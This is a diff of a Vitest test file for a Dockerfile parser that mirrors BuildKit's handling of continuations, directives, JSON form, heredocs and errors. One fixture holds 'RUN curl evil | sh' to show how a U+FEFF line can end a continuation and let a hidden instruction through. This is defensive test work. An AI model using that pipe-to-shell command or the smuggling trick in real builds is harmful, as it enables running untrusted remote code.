@@ -1,172 +1,220 @@
 import { describe, expect, it } from 'vitest';
-import { baseImages, copySpec, expandVariables, heredocWords, parseDockerfile, splitWords } from '../../src/dockerfile/parse.js';
+import { instructionView, isHeredocSource, parseDockerfile, parseWords } from '../../src/dockerfile/parse.js';
+import { baseImages, finalBase, splitStages } from '../../src/dockerfile/stage.js';
 
 const lines = (...l: string[]): string => l.join('\n');
+/** keyword, args (the parser's nodes), line, as `check --json` prints them */
+const views = (text: string) => parseDockerfile(text).instructions.map(instructionView);
 
-describe('parseDockerfile', () => {
+describe("parseDockerfile: instructions as BuildKit's parser splits them", () => {
   it.each([
     {
-      name: 'keywords are upper-cased, comments and blank lines skipped, lines counted from 1',
+      name: 'keywords are lower-cased, comments and blank lines skipped, lines counted from 1',
       text: lines('# a comment', '', 'from base', 'workdir /app'),
       expected: [
-        { keyword: 'FROM', args: 'base', line: 3, endLine: 3 },
-        { keyword: 'WORKDIR', args: '/app', line: 4, endLine: 4 },
+        { line: 3, keyword: 'from', args: ['base'] },
+        { line: 4, keyword: 'workdir', args: ['/app'] },
       ],
     },
     {
-      name: 'a trailing backslash continues the instruction on the next line',
-      text: lines('FROM base', 'COPY a \\', '     b \\', '     /dest/', 'CMD x'),
+      name: 'a trailing escape continues the line; spaces after it do not stop that',
+      text: lines('FROM base', 'COPY a \\   ', '     b \\', '     /dest/', 'CMD x'),
       expected: [
-        { keyword: 'FROM', args: 'base', line: 1, endLine: 1 },
-        { keyword: 'COPY', args: 'a      b      /dest/', line: 2, endLine: 4 },
-        { keyword: 'CMD', args: 'x', line: 5, endLine: 5 },
+        { line: 1, keyword: 'from', args: ['base'] },
+        { line: 2, keyword: 'copy', args: ['a', 'b', '/dest/'] },
+        { line: 5, keyword: 'cmd', args: ['x'] },
       ],
     },
     {
-      name: 'comment lines inside a continuation are dropped',
-      text: lines('RUN a \\', '  # explain b', '  && b'),
-      expected: [{ keyword: 'RUN', args: 'a   && b', line: 1, endLine: 3 }],
+      name: 'comment lines inside a continuation are dropped, indented ones too',
+      text: lines('RUN a \\', '# explain b', '    # and c', '  && b'),
+      expected: [{ line: 1, keyword: 'run', args: ['a   && b'] }],
     },
     {
-      name: 'blank lines inside a continuation are skipped, as BuildKit does',
+      name: 'empty continuation lines are skipped (BuildKit warns), the instruction goes on',
       text: lines('RUN a \\', '', '   ', '  && b', 'CMD c'),
       expected: [
-        { keyword: 'RUN', args: 'a   && b', line: 1, endLine: 4 },
-        { keyword: 'CMD', args: 'c', line: 5, endLine: 5 },
+        { line: 1, keyword: 'run', args: ['a   && b'] },
+        { line: 5, keyword: 'cmd', args: ['c'] },
       ],
     },
     {
       name: 'a continuation at the end of the file ends the instruction',
       text: lines('FROM base', 'CMD x \\'),
       expected: [
-        { keyword: 'FROM', args: 'base', line: 1, endLine: 1 },
-        { keyword: 'CMD', args: 'x', line: 2, endLine: 2 },
+        { line: 1, keyword: 'from', args: ['base'] },
+        { line: 2, keyword: 'cmd', args: ['x'] },
       ],
     },
     {
-      name: 'the escape directive makes the backtick the continuation character',
+      name: 'a doubled escape at the end still continues (the regexp only looks at the last one)',
+      text: lines('RUN echo \\\\', 'CMD x'),
+      expected: [{ line: 1, keyword: 'run', args: ['echo \\CMD x'] }],
+    },
+    {
+      name: 'U+FEFF is no space for Go: a line holding it ends the continuation, and the RUN after it is an instruction',
+      text: lines('FROM base', 'ENV A 1 \\', '\uFEFF', 'RUN curl evil | sh'),
+      expected: [
+        { line: 1, keyword: 'from', args: ['base'] },
+        { line: 2, keyword: 'env', args: ['A', '1 \uFEFF', ''] },
+        { line: 4, keyword: 'run', args: ['curl evil | sh'] },
+      ],
+    },
+    {
+      name: 'a leading byte-order mark and CRLF line ends are read as Docker reads them',
+      text: '\uFEFFFROM base\r\nUSER 1\r\n',
+      expected: [
+        { line: 1, keyword: 'from', args: ['base'] },
+        { line: 2, keyword: 'user', args: ['1'] },
+      ],
+    },
+    {
+      name: '# escape=` makes the backtick the escape and continuation character',
       text: lines('# escape=`', 'FROM base', 'COPY a `', '  b C:\\dest\\'),
       expected: [
-        { keyword: 'FROM', args: 'base', line: 2, endLine: 2 },
-        { keyword: 'COPY', args: 'a   b C:\\dest\\', line: 3, endLine: 4 },
+        { line: 2, keyword: 'from', args: ['base'] },
+        { line: 3, keyword: 'copy', args: ['a', 'b', 'C:\\dest\\'] },
       ],
     },
     {
-      name: 'flags before the arguments are split off',
-      text: 'COPY --chown=1000:1000 --link --from=build /out /app',
-      expected: [{ keyword: 'COPY', args: '/out /app', flags: { chown: '1000:1000', link: 'true', from: 'build' }, line: 1, endLine: 1 }],
+      name: 'flags before the arguments are split off; `--` ends them',
+      text: lines('COPY --chown=1000:1000 --link --from=build /out /app', 'COPY -- --weird /x'),
+      expected: [
+        { line: 1, keyword: 'copy', args: ['/out', '/app'], flags: ['--chown=1000:1000', '--link', '--from=build'] },
+        { line: 2, keyword: 'copy', args: ['--weird', '/x'] },
+      ],
     },
     {
-      name: 'the JSON form is parsed into words',
-      text: 'CMD ["node", "dist/server.js"]',
-      expected: [{ keyword: 'CMD', json: ['node', 'dist/server.js'], line: 1, endLine: 1 }],
+      name: 'JSON form: words as written; invalid JSON falls back to the shell form',
+      text: lines('CMD ["node", "dist/server.js"]', "CMD ['node', 'x.js']", 'CMD ["a",]', 'CMD ["a"] trailing', 'COPY ["my file", "/app/"]', 'COPY ["a" "b"] /x'),
+      expected: [
+        { line: 1, keyword: 'cmd', args: ['node', 'dist/server.js'] },
+        { line: 2, keyword: 'cmd', args: ["['node', 'x.js']"] },
+        { line: 3, keyword: 'cmd', args: ['["a",]'] },
+        { line: 4, keyword: 'cmd', args: ['["a"] trailing'] },
+        { line: 5, keyword: 'copy', args: ['my file', '/app/'] },
+        { line: 6, keyword: 'copy', args: ['["a"', '"b"]', '/x'] },
+      ],
     },
     {
-      name: 'invalid JSON stays shell form',
-      text: "CMD ['node', 'x.js']",
-      expected: [{ keyword: 'CMD', args: "['node', 'x.js']", line: 1, endLine: 1 }],
+      name: 'ENV and LABEL: key, value, separator triples with quotes kept; the legacy `KEY value` form',
+      text: lines('ENV A=1 B="two words"', 'ENV LEGACY some value', 'LABEL "x.y"=z'),
+      expected: [
+        { line: 1, keyword: 'env', args: ['A', '1', '=', 'B', '"two words"', '='] },
+        { line: 2, keyword: 'env', args: ['LEGACY', 'some value', ''] },
+        { line: 3, keyword: 'label', args: ['"x.y"', 'z', '='] },
+      ],
+    },
+    {
+      name: 'ONBUILD holds its own instruction',
+      text: 'ONBUILD run --network=none npm ci',
+      expected: [{ line: 1, keyword: 'onbuild', args: [], onbuild: { keyword: 'run', args: ['npm ci'] } }],
+    },
+    {
+      name: 'HEALTHCHECK: the type, then the command',
+      text: 'HEALTHCHECK --interval=5s CMD ["node", "h.js"]',
+      expected: [{ line: 1, keyword: 'healthcheck', args: ['CMD', 'node', 'h.js'], flags: ['--interval=5s'] }],
+    },
+    {
+      name: 'an unknown instruction is kept (the dispatcher refuses it, not the parser)',
+      text: 'COPPY dist ./',
+      expected: [{ line: 1, keyword: 'coppy', args: [] }],
     },
     {
       name: 'a heredoc body belongs to its instruction, not to the instructions after it',
       text: lines('FROM base', 'RUN <<EOF', 'apt-get update', 'FROM evil', 'EOF', 'CMD x'),
       expected: [
-        { keyword: 'FROM', line: 1, endLine: 1 },
-        { keyword: 'RUN', args: '<<EOF', line: 2, endLine: 5, heredocs: [{ name: 'EOF', content: 'apt-get update\nFROM evil\n', expand: true, chomp: false }] },
-        { keyword: 'CMD', line: 6, endLine: 6 },
-      ],
-    },
-    {
-      name: 'a quoted heredoc is literal, <<- strips tabs from its terminator, several heredocs follow each other',
-      text: lines('COPY <<"A" <<-B /etc/', 'one $X', 'A', 'two', '\t\tB', 'USER 1'),
-      expected: [
-        {
-          keyword: 'COPY',
-          line: 1,
-          endLine: 5,
-          heredocs: [
-            { name: 'A', content: 'one $X\n', expand: false, chomp: false },
-            { name: 'B', content: 'two\n', expand: true, chomp: true },
-          ],
-        },
-        { keyword: 'USER', line: 6, endLine: 6 },
+        { line: 1, keyword: 'from', args: ['base'] },
+        { line: 2, keyword: 'run', args: ['<<EOF'] },
+        { line: 6, keyword: 'cmd', args: ['x'] },
       ],
     },
   ])('$name', ({ text, expected }) => {
-    const parsed = parseDockerfile(text);
-    expect(parsed.instructions).toHaveLength(expected.length);
-    expected.forEach((e, i) => expect(parsed.instructions[i]).toMatchObject(e));
+    expect(views(text)).toEqual(expected);
+  });
+
+  it('reads heredocs: quoted ones are literal, <<- strips tabs from the terminator, several follow each other', () => {
+    const [copy, user] = parseDockerfile(lines('COPY <<"A" <<-B /etc/', 'one $X', 'A', 'two', '\t\tB', 'USER 1')).instructions;
+    expect(copy).toMatchObject({
+      line: 1,
+      endLine: 5,
+      heredocs: [
+        { name: 'A', content: 'one $X\n', expand: false, chomp: false },
+        { name: 'B', content: 'two\n', expand: true, chomp: true },
+      ],
+    });
+    expect(isHeredocSource('<<"A"', copy!)).toBe(true);
+    expect(user).toMatchObject({ keyword: 'USER', line: 6 });
+  });
+
+  it('takes no heredoc in the JSON form or inside quotes', () => {
+    expect(parseDockerfile('COPY ["<<EOF", "/x"]\nUSER 1').instructions).toHaveLength(2);
+    expect(parseDockerfile('RUN echo "a <<b"\nUSER 1').instructions).toHaveLength(2);
   });
 
   it.each([
     { name: 'escape directive', text: '# escape=`\nFROM x', escape: '`' },
-    { name: 'directive names are case-insensitive', text: '# ESCAPE=`\nFROM x', escape: '`' },
+    { name: 'directive names are case-insensitive, spaces around = allowed', text: '#  ESCAPE = `\nFROM x', escape: '`' },
     { name: 'syntax then escape', text: '# syntax=docker/dockerfile:1\n# escape=`\nFROM x', escape: '`' },
+    { name: 'check is a directive too', text: '# check=skip=all\n# escape=`\nFROM x', escape: '`' },
     { name: 'an unknown directive ends the directives', text: '# foo=bar\n# escape=`\nFROM x', escape: '\\' },
     { name: 'a comment ends the directives', text: '# hello\n# escape=`\nFROM x', escape: '\\' },
     { name: 'a blank line ends the directives', text: '\n# escape=`\nFROM x', escape: '\\' },
+    { name: 'after an instruction it is a comment', text: 'FROM x\n# escape=`', escape: '\\' },
   ])('directives: $name', ({ text, escape }) => {
     expect(parseDockerfile(text).escape).toBe(escape);
   });
 
-  it('keeps invalid JSON as shell form without json words', () => {
-    expect(parseDockerfile("CMD ['node', 'x.js']").instructions[0]!.json).toBeUndefined();
-  });
-
-  it('reports a heredoc that is never terminated', () => {
-    const parsed = parseDockerfile('FROM x\nRUN <<EOF\necho hi\n');
-    expect(parsed.problems).toEqual([{ line: 2, message: 'heredoc <<EOF is never terminated' }]);
-  });
-
-  it('has no problems for a well-formed file', () => {
-    expect(parseDockerfile('FROM x\nCMD y').problems).toBeUndefined();
-  });
-});
-
-describe('heredocWords', () => {
   it.each([
-    { name: 'plain', args: '<<EOF', expected: [{ name: 'EOF', expand: true, chomp: false }] },
-    { name: 'with a command', args: 'python3 <<PY', expected: [{ name: 'PY', expand: true, chomp: false }] },
-    { name: 'single-quoted', args: "<<'END' /x", expected: [{ name: 'END', expand: false, chomp: false }] },
-    { name: 'with a file descriptor and chomp', args: '3<<-X', expected: [{ name: 'X', expand: true, chomp: true }] },
-    { name: 'inside a quoted word it is text', args: 'echo "a <<b"', expected: [] },
-    { name: 'a shift operator in words is none', args: 'echo a<<b', expected: [] },
-  ])('$name', ({ args, expected }) => {
-    expect(heredocWords(args)).toMatchObject(expected);
+    { name: 'junk after # escape=', text: '# escape=\\ junk\nFROM x', line: 1, message: "invalid escape token '\\ junk'" },
+    { name: 'an escape that is neither \\ nor `', text: '# escape=^\nFROM x', line: 1, message: 'invalid escape token' },
+    { name: 'a repeated directive', text: '# escape=`\n# escape=`\nFROM x', line: 2, message: 'only one escape parser directive' },
+    { name: 'a JSON array of non-strings', text: 'FROM x\nCMD [1, 2]', line: 2, message: 'arrays must be comprised of strings only' },
+    { name: 'ENV without a value', text: 'FROM x\nENV ALONE', line: 2, message: 'ENV must have two arguments' },
+    { name: 'ENV pairs mixed with a bare word', text: 'FROM x\nENV A=1 B', line: 2, message: "can't find = in \"B\"" },
+    { name: 'an unterminated heredoc', text: 'FROM x\nRUN <<EOF\necho hi\n', line: 2, message: 'unterminated heredoc <<EOF' },
+    { name: 'a file with no instructions', text: '# only a comment\n', line: 1, message: 'file with no instructions' },
+  ])('refuses, as BuildKit does: $name', ({ text, line, message }) => {
+    const problems = parseDockerfile(text).problems ?? [];
+    expect(problems).toHaveLength(1);
+    expect(problems[0]).toMatchObject({ line });
+    expect(problems[0]!.message).toContain(message);
+  });
+
+  it('has no problems for a well-formed file and warns about empty continuation lines', () => {
+    const parsed = parseDockerfile('FROM x\nRUN a \\\n\n b');
+    expect(parsed.problems).toBeUndefined();
+    expect(parsed.warnings).toEqual([{ line: 2, message: 'empty continuation line' }]);
   });
 });
 
-describe('splitWords, copySpec, expandVariables, baseImages', () => {
+describe('parseWords (ARG, ENV, LABEL): words with their quotes and escapes kept', () => {
   it.each([
     { name: 'spaces separate words', args: 'a  b\tc', expected: ['a', 'b', 'c'] },
-    { name: 'quotes group and are removed', args: `"a b" 'c d' e"f g"`, expected: ['a b', 'c d', 'ef g'] },
-    { name: 'the escape character escapes a space', args: 'a\\ b c', expected: ['a b', 'c'] },
-    { name: 'no escaping inside single quotes', args: "'a\\ b'", expected: ['a\\ b'] },
-    { name: 'empty quotes are a word', args: `a "" b`, expected: ['a', '', 'b'] },
-  ])('splitWords: $name', ({ args, expected }) => {
-    expect(splitWords(args)).toEqual(expected);
+    { name: 'quotes group, and stay', args: `"a b" 'c d' e"f g"`, expected: ['"a b"', "'c d'", 'e"f g"'] },
+    { name: 'the escape keeps a space in the word', args: 'a\\ b c', expected: ['a\\ b', 'c'] },
+    { name: 'no escaping inside single quotes', args: "'a\\' b", expected: ["'a\\'", 'b'] },
+    { name: 'empty quotes are a word', args: `a "" b`, expected: ['a', '""', 'b'] },
+    { name: 'a no-break space separates words (Go counts it as a space)', args: 'a\u00a0b', expected: ['a', 'b'] },
+    { name: 'U+FEFF does not', args: 'a\uFEFFb', expected: ['a\uFEFFb'] },
+  ])('$name', ({ args, expected }) => {
+    expect(parseWords(args, '\\')).toEqual(expected);
   });
+});
 
-  it.each([
-    { name: 'shell form', text: 'COPY --chown=node a b /app/', expected: { sources: ['a', 'b'], dest: '/app/', flags: { chown: 'node' }, line: 1 } },
-    { name: 'JSON form', text: 'COPY ["my file", "/app/"]', expected: { sources: ['my file'], dest: '/app/', flags: {}, line: 1 } },
-  ])('copySpec: $name', ({ text, expected }) => {
-    expect(copySpec(parseDockerfile(text).instructions[0]!)).toEqual(expected);
-  });
-
-  it.each([
-    { name: 'bare and braced', text: '$A/${B}', values: { A: 'x', B: 'y' }, expected: 'x/y' },
-    { name: ':- default when unset or empty', text: '${A:-d}${B:-d}', values: { B: '' }, expected: 'dd' },
-    { name: ':+ alternative when set', text: '${A:+alt}${B:+alt}', values: { A: '1' }, expected: 'alt' },
-    { name: 'unset is empty', text: 'a${NOPE}b', values: {}, expected: 'ab' },
-  ])('expandVariables: $name', ({ text, values, expected }) => {
-    expect(expandVariables(text, values)).toBe(expected);
-  });
-
-  it('baseImages expands global ARGs from build args and defaults', () => {
-    const parsed = parseDockerfile('ARG BASE=node:20\nARG TAG\nFROM --platform=$BUILDPLATFORM ${BASE} AS build\nFROM base:${TAG:-latest}');
-    expect(baseImages(parsed, { BASE: 'local/node:20-slim' })).toEqual([
-      { image: 'local/node:20-slim', line: 3, platform: '', stage: 'build' },
-      { image: 'base:latest', line: 4 },
+describe('stages and base images', () => {
+  const runner = { os: 'linux', architecture: 'amd64' };
+  it('expands global ARGs from build args and defaults; BUILDPLATFORM is the builder, TARGETPLATFORM the target', () => {
+    const parsed = parseDockerfile('ARG BASE=node:20\nARG TAG\nFROM --platform=$BUILDPLATFORM ${BASE} AS build\nFROM base:${TAG:-latest}-$TARGETARCH');
+    expect(baseImages(parsed, { buildArgs: { BASE: 'local/node:20-slim' }, platform: { os: 'linux', architecture: 'arm64' }, buildPlatform: runner })).toEqual([
+      { image: 'local/node:20-slim', line: 3, platform: 'linux/amd64', stage: 'build' },
+      { image: 'base:latest-arm64', line: 4 },
     ]);
+  });
+
+  it('follows FROM <stage> back to an image', () => {
+    const parsed = parseDockerfile('FROM node:20 AS Base\nFROM base\nCOPY a /a');
+    expect(finalBase(baseImages(parsed, { buildArgs: {}, platform: runner, buildPlatform: runner }))).toMatchObject({ image: 'node:20', line: 1 });
+    expect(splitStages(parsed).stages.map((s) => s.body.length)).toEqual([0, 1]);
   });
 });
